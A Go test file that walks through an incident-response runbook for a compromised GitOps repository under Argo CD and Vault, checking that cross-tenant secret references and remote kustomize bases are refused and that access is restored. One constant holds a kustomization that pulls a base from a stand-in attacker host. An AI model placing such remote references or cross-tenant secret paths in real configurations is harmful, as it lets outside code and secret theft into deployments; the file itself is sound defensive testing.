package runbooks

import (
	"os"
	"strings"
	"testing"

	"github.com/argoproj/argo-cd/v2/pkg/apis/application/v1alpha1"
	"sigs.k8s.io/yaml"
)

const remoteBase = "resources: ['https://attacker.example.com/base?ref=v1']\n"

// TestCompromisedRepository lets somebody push who wants another tenant's secrets,
// and follows the runbook.
func TestCompromisedRepository(t *testing.T) {
	d := newDesk(t)
	p := d.open(t, "compromised-repository.md")
	d.write(t, "checkout/ledger/secret.yaml", secret("kv/production/ledger/db#password"))
	d.renders(t, "shop-production", "db")
	d.renders(t, "ledger", "ledger")
	d.write(t, "checkout/evil/secret.yaml", secret("kv/production/ledger/db#password"))
	d.refused(t, "shop-production", "evil", "E_FORBIDDEN")
	d.write(t, "checkout/remote/kustomization.yaml", remoteBase)
	d.refused(t, "shop-production", "remote", "E_REMOTE_REF")
	d.write(t, "checkout/db/more.yaml", strings.Replace(pod, "name: web", "name: more", 1))
	if _, err := d.render(t, "shop-production", "db", "b"); err != nil {
		t.Fatal(err)
	}
	must(t, os.RemoveAll(d.file("checkout/evil")))
	must(t, os.RemoveAll(d.file("checkout/remote")))

	shows(t, p.run(t, "--outcome E_FORBIDDEN"), shopURL, "shop-production-evil")
	shows(t, p.run(t, "--outcome E_REMOTE_REF"), shopURL)

	p.run(t, "vault policy write argocd-seal-production -")
	d.refused(t, "shop-production", "db", "E_SECRET")
	d.renders(t, "ledger", "ledger")
	p.run(t, "patch appproject")
	if d.permitted(t) {
		t.Error("Argo CD still takes the repository")
	}
	p.run(t, "evidence.jsonl")
	shows(t, d.shell(t, `argocd-seal audit verify evidence.jsonl --key "$KEY"`), "good")

	shows(t, p.run(t, "--changed"), "shop-production-db", strings.Repeat("b", 10))
	shows(t, p.run(t, "--by secret"), "kv/production/shop/db")
	p.run(t, "argocd-seal check checkout")
	p.run(t, "vault policy write argocd-seal-production argocd-seal-production.hcl")
	d.renders(t, "shop-production", "db")
	if !d.permitted(t) {
		t.Error("Argo CD does not take the repository again")
	}
	p.run(t, "annotate applications")
	d.asked(t, "shop-production-db", "shop-production-web")
	p.run(t, "incident.html")
	shows(t, d.read(t, "incident.html"), "shop-production-evil")
}

// permitted asks Argo CD's own code whether the project takes the repository.
func (d *desk) permitted(t *testing.T) bool {
	t.Helper()
	var project v1alpha1.AppProject
	must(t, yaml.Unmarshal([]byte(d.shell(t, "kubectl -n argocd get appproject shop-production --output yaml")), &project))
	return project.IsSourcePermitted(v1alpha1.ApplicationSource{RepoURL: shopURL})
}

// asked expects Argo CD to be asked for a render without a cache, and takes the
// mark away as Argo CD does.
func (d *desk) asked(t *testing.T, apps ...string) {
	t.Helper()
	for _, app := range apps {
		mark := d.shell(t, "kubectl -n argocd get application "+app+` --output jsonpath='{.metadata.annotations.argocd\.argoproj\.io/refresh}'`)
		if mark != "hard" {
			t.Errorf("%s is marked %q", app, mark)
		}
		d.shell(t, "kubectl -n argocd annotate application "+app+" argocd.argoproj.io/refresh-")
	}
}
